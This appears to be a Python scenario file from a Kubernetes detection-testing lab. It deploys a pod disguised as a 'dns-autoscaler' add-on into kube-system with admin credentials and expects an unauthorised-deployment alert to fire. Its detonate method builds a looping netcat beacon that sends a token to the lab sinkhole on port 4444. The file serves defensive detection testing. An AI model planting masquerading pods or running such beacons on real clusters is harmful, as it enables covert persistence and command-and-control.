"""A pod hidden among the system pods of kube-system, created by a user, not the platform."""

from __future__ import annotations

import secrets

from lab import Lab, WorkloadSpec
from scenarios.api import Expectation, Kind, Scenario


class SystemNamespacePod(Scenario):
    id = "kubernetes.deploy.system-namespace-pod"
    title = "Pod deployed into kube-system by an unapproved identity"
    kind = Kind.ADVERSARY
    techniques = ("T1610", "T1036.005")
    backends = ("kubernetes",)
    expect = Expectation(fires=("stowaway.k8s.system-namespace-deploy",), within_s=20, may_fire={
        "stowaway.net.process-egress-not-allowlisted": "Its pod really sends to the sinkhole on the lab "
                                                       "internet, outside the egress allowlist, which the "
                                                       "node sensor sees from the process.",
    })
    twin = "kubernetes.deploy.deployer-rollout"
    tags = ("kubernetes", "unauthorised-deployment")
    description = (
        "Creates a pod named like a system add-on (dns-autoscaler-...) in kube-system with the lab's "
        "admin kubeconfig, not through the platform's deployer. It beacons to the lab internet's "
        "sinkhole every two seconds; the scenario checks the pod runs and the sinkhole heard it."
    )

    def detonate(self, lab: Lab) -> None:
        sink = lab.sinkhole.address
        token = secrets.token_hex(6)
        beacon = f"while true; do echo {token} | nc -w 2 -q 1 {sink} 4444; sleep 2; done"
        lab.action("create a pod in kube-system")
        pod = lab.deploy(WorkloadSpec(role="dns-autoscaler", command=("sh", "-c", beacon),
                                      constraints=("namespace=kube-system",)))
        if not pod.id:
            raise AssertionError("the pod was not created")
        lab.wait_for(lambda: any(token in r.get("head", "") for r in lab.sinkhole_records()), timeout=30,
                     what="the kube-system pod's beacon to reach the sinkhole")
